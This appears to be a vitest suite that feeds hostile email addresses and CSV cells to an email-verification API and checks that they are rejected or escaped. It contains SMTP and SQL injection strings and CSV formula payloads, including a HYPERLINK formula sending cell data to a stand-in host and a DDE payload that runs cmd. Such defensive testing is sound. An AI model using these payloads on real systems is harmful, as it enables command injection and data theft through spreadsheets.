// Hostile addresses through /v1/verify/single, /v1/verify and /v1/verify/bulk, and CSV formula
// injection / huge cells through bulk rows+columns and the CSV download. SQLite and PostgreSQL.
// Cases per dialect: 43 addresses x 3 endpoints = 129, + 24 CSV rows = 153; x 2 dialects (SQLite, PostgreSQL) = 306.
// Known failures: 3 CSV rows per dialect (lib/jobs/export/csv.ts), 6 NUL-address rows on PostgreSQL.
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as single from '@/app/v1/verify/single/route';
import * as verify from '@/app/v1/verify/route';
import * as bulk from '@/app/v1/verify/bulk/route';
import * as download from '@/app/v1/verify/bulk/download/[jobId]/route';
import { DIALECTS } from '../databases';
import { call, setup } from '../api/harness';
import { REASONS, bounded, expectSane } from './hostile';

// [case, address, must be judged invalid_email]  (false = any sane verdict will do)
const ADDRESSES: [string, string, boolean][] = [
  ['CRLF in the local part', 'val\r\nid@example.com', true],
  ['SMTP injection: RCPT TO after CRLF', 'a@b.com\r\nRCPT TO:<x@y.com>', true],
  ['SMTP injection: DATA and QUIT', 'a@example.com>\r\nDATA\r\n.\r\nQUIT', true],
  ['SMTP injection with bare LF', 'a@example.com\nMAIL FROM:<x@y.com>', true],
  ['bare CR', 'a\r@example.com', true],
  ['NUL in the local part', 'a\u0000b@example.com', true],
  ['NUL in the domain', 'ab@exam\u0000ple.com', true],
  ['tab in the local part', 'a\tb@example.com', true],
  ['DEL character', 'a\u007fb@example.com', true],
  ['C1 control (NEL)', 'a\u0085b@example.com', true],
  ['ANSI escape sequence', '\u001b[31mred@example.com', true],
  ['backspaces', 'admin\b\b\b\b\bvalid@example.com', true],
  ['10,000-char local part', `${'a'.repeat(10_000)}@example.com`, true],
  ['10,000-char domain', `a@${'b'.repeat(10_000)}.com`, true],
  ['10,000 @ signs', '@'.repeat(10_000), true],
  ['65-octet local part', `${'a'.repeat(65)}@example.com`, true],
  ['300-char address under the 1024 cap', `${'a'.repeat(60)}@${`${'b'.repeat(60)}.`.repeat(4)}com`, true],
  ['64-char domain label', `a@${'b'.repeat(64)}.com`, true],
  ['Cyrillic "а" confusable in the domain', 'user@exаmple.com', false],
  ['all-Cyrillic IDN domain', 'user@пример.рф', false],
  ['IDN domain (umlaut)', 'user@münchen.de', false],
  ['punycode domain', 'user@xn--mnchen-3ya.de', false],
  ['Cyrillic local part (SMTPUTF8)', 'пользователь@example.com', false],
  ['RTL override in the local part', 'user\u202Emoc.elpmaxe@example.com', false],
  ['RTL override in the domain', 'user@example\u202E.com', false],
  ['zero-width space', 'us\u200Ber@example.com', false],
  ['emoji local part', '😀@example.com', false],
  ['emoji domain', 'user@😀.com', false],
  ['lone UTF-16 surrogate', 'a\uD800@example.com', false],
  ['quoted local part with a space', '"john doe"@example.com', false],
  ['quoted local part holding an @', '"a@b"@example.com', false],
  ['quoted local part with an escaped quote', '"a\\"b"@example.com', false],
  ['quoted local part hiding CRLF', '"a\r\nRCPT TO:<x@y.com>"@example.com', true],
  ['address literal (IP in brackets)', 'user@[127.0.0.1]', true],
  ['bare IP as the domain', 'user@192.168.0.1', true],
  ['just an @', '@', true],
  ['empty string', '', true],
  ['spaces only', '   ', true],
  ['double @', 'a@@example.com', true],
  ['SQL injection with spaces', "' OR 1=1 --@example.com", true],
  ['SQL injection without spaces (legal atext)', "x'OR'1'='1@example.com", false],
  ['HTML in the local part', '<script>alert(1)</script>@example.com', true],
  ['fullwidth @ (no ASCII @)', 'user＠example.com', true],
];

const KNOWN_STATUS = ['deliverable', 'undeliverable', 'risky', 'catch-all', 'disposable', 'role-based', 'unknown'];

// [case, cells of the uploaded row (column "note" then "email"), column names]
const FORMULA_CELLS: [string, string][] = [
  ['= at cell start', '=1+1'],
  ['+ at cell start', '+1+1'],
  ['- at cell start', '-2+3'],
  ['@ at cell start', '@SUM(A1:A2)'],
  ['tab at cell start', '\t=1+1'],
  ['CR at cell start', '\r=1+1'],
  ['HYPERLINK exfiltration', '=HYPERLINK("http://evil.example/?x="&A1,"click")'],
  ['DDE payload', "=cmd|' /C calc'!A0"],
  ['formula with embedded quotes and commas', '=IF(A1="x",1,2)'],
  ['formula with a newline inside', '=1+1\n=2+2'],
  ['formula with CRLF inside', '=HYPERLINK("http://evil.example")\r\nx'],
  ['formula with U+2028 inside', '=1+1\u2028x'],
  ['minus then equals', '-=1'],
  ['at sign only', '@'],
];

describe.each(DIALECTS)('hostile addresses and CSV cells on %s', (dialect) => {
  let ctx: Awaited<ReturnType<typeof setup>>;
  beforeAll(async () => {
    ctx = await setup(dialect);
  });
  afterAll(async () => ctx.teardown());

  it.each(ADDRESSES)('single: %s → 200 and a sane verdict', async (_what, email, mustBeInvalid) => {
    const res = await bounded(call(single.POST, { key: ctx.key, body: { email } }));
    expectSane(res);
    expect(res.status, res.text.slice(0, 300)).toBe(200);
    expect(REASONS).toContain(res.json.reason);
    expect(typeof res.json.valid).toBe('boolean');
    if (mustBeInvalid) expect(res.json).toMatchObject({ valid: false, deliverable: false, reason: 'invalid_email' });
  });

  it.each(ADDRESSES)('/v1/verify: %s → 200 and a sane status', async (_what, email, mustBeInvalid) => {
    const res = await bounded(call(verify.POST, { key: ctx.key, body: { email } }));
    expectSane(res);
    expect(res.status, res.text.slice(0, 300)).toBe(200);
    expect(KNOWN_STATUS).toContain(res.json.status);
    expect(res.json.score).toBeGreaterThanOrEqual(0);
    expect(res.json.score).toBeLessThanOrEqual(100);
    if (mustBeInvalid) expect(res.json).toMatchObject({ valid: false, reason: 'invalid_email', status: 'undeliverable' });
  });

  it.each(ADDRESSES)('bulk: %s → 200, counted in invalid_format_emails when invalid', async (_what, email, mustBeInvalid) => {
    const res = await bounded(call(bulk.POST, { key: ctx.key, body: { emails: [email, 'valid@example.com'] } }));
    expectSane(res);
    expect(res.status, res.text.slice(0, 300)).toBe(200);
    expect(res.json.total_emails).toBe(2);
    expect(res.json.valid_emails + res.json.invalid_format_emails).toBe(2);
    expect(res.json.results).toHaveLength(2);
    expect(REASONS).toContain(res.json.results[0].reason);
    if (mustBeInvalid) {
      expect(res.json.invalid_format_emails).toBe(1);
      expect(res.json.results[0]).toMatchObject({ valid: false, reason: 'invalid_email' });
    }
  });

  /** Submits one instant bulk job with uploaded rows and returns the parsed CSV download. */
  async function roundTrip(rows: string[][], columns: string[], emails: string[]) {
    const submitted = await bounded(call(bulk.POST, { key: ctx.key, body: { emails, rows, columns, filename: 'list.csv' } }));
    expectSane(submitted);
    expect(submitted.status, submitted.text.slice(0, 300)).toBe(200);
    const csv = await bounded(call(download.GET, { key: ctx.key, params: { jobId: submitted.json.job_id } }));
    expectSane(csv);
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    const parsed = Papa.parse<string[]>(csv.text, { newline: '\r\n', skipEmptyLines: true });
    return parsed.data;
  }

  it.each(FORMULA_CELLS)("csv: uploaded cell with %s comes back prefixed with '", async (_what, cell) => {
    const table = await roundTrip([[cell, 'valid@example.com']], ['note', 'email'], ['valid@example.com']);
    expect(table[0]!.slice(0, 2)).toEqual(['note', 'email']);
    expect(table[1]![0]).toBe(`'${cell}`);
  });

  // [case, email that is also a formula]
  const FORMULA_EMAILS: [string, string][] = [
    ['= address (legal atext)', '=1+1@example.com'],
    ['+ address', '+cmd@example.com'],
    ['- address', '-2+3@example.com'],
    ['@ address (invalid)', '@SUM(A1)@example.com'],
  ];
  it.each(FORMULA_EMAILS)('csv: the email column itself (%s) is escaped', async (_what, email) => {
    const table = await roundTrip([[email]], ['email'], [email]);
    expect(table[1]![0]).toBe(`'${email}`); // the original column
    expect(table[1]![1]).toBe(`'${email}`); // the verdict's email column
  });

  it.each([
    ['header cell starting with =', '=HYPERLINK("http://evil.example")'],
    ['header cell starting with @', '@cmd'],
  ])('csv: uploaded %s is escaped in the header row', async (_what, header) => {
    const table = await roundTrip([['x', 'valid@example.com']], [header, 'email'], ['valid@example.com']);
    expect(table[0]![0]).toBe(`'${header}`);
  });

  const big = 'x'.repeat(100_000);
  it.each([
    ['100 KB plain cell', big],
    ['100 KB formula cell (escaped, intact)', `=${big}`],
    ['100 KB cell of quotes, commas and CRLFs', '",\r\n'.repeat(25_000)],
    ['100 KB cell of multi-byte characters', 'ж😀'.repeat(33_000)],
  ])('csv: %s survives the round trip', async (_what, cell) => {
    const table = await roundTrip(
      [
        [cell, 'valid@example.com'],
        ['small', 'x@y.com'],
      ],
      ['note', 'email'],
      ['valid@example.com', 'x@y.com'],
    );
    expect(table).toHaveLength(3);
    const expected = /^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell;
    expect(table[1]![0]!.length).toBe(expected.length);
    expect(table[1]![0]).toBe(expected);
    expect(table[2]![0]).toBe('small');
  });
});
